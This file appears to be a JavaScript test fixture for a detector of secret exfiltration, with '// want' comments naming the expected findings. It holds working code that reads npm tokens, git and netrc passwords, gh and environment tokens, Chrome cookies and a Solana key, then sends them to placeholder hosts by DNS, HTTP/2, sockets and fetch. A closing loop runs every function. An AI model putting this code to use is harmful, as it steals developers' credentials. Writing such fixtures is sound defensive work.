const fs = require('fs');
const os = require('os');
const path = require('path');
const dns = require('dns');
const http2 = require('http2');
const net = require('net');
const { execFileSync } = require('child_process');
const { Client } = require('./client');

const home = os.homedir();
exports.names = () => {
  const hex = fs.readFileSync(path.join(home, '.npmrc')).toString('hex');
  for (const part of hex.match(/.{1,60}/g)) {
    dns.resolve4(`${part}.t.example.invalid`, () => {}); // want "npm tokens are read and sent to \"t.example.invalid\""
  }
};
exports.session = () => {
  const text = fs.readFileSync(path.join(home, '.git-credentials'), 'utf8');
  const stream = http2.connect('https://192.0.2.5').request({ ':method': 'POST' });
  stream.end(text); // want "stored git passwords are read and sent to \"192.0.2.5\""
};
exports.socket = () => {
  const text = fs.readFileSync(path.join(home, '.netrc'), 'utf8');
  const socket = new net.Socket();
  socket.connect(4000, '192.0.2.6', () => socket.end(text)); // want "passwords by host are read and sent to \"192.0.2.6\""
};
exports.printed = async () => {
  const text = execFileSync('gh', ['auth', 'token']).toString();
  await fetch('https://example.invalid/t', { method: 'POST', body: text }); // want "what gh auth token prints is read and sent"
};
exports.variable = async () => {
  await fetch('https://example.invalid/v', { method: 'POST', body: process.env.NPM_TOKEN }); // want "the variable NPM_TOKEN is read and sent"
};
exports.copied = async () => {
  const copy = path.join(os.tmpdir(), 'toy.db');
  fs.copyFileSync(path.join(home, '.config', 'google-chrome', 'Default', 'Cookies'), copy);
  await fetch('https://example.invalid/c', { method: 'POST', body: fs.readFileSync(copy) }); // want "profiles are read and sent"
};
class Store {
  constructor() {
    this.client = new Client({ baseURL: 'https://example.invalid' });
  }
  async put(text) {
    await this.client.post('/v1', { items: { a: { text } } }); // want "a Solana key are read and sent"
  }
}
exports.based = () => new Store().put(fs.readFileSync(path.join(home, '.config/solana/id.json'), 'utf8'));
for (const way of Object.values(exports)) {
  way();
}
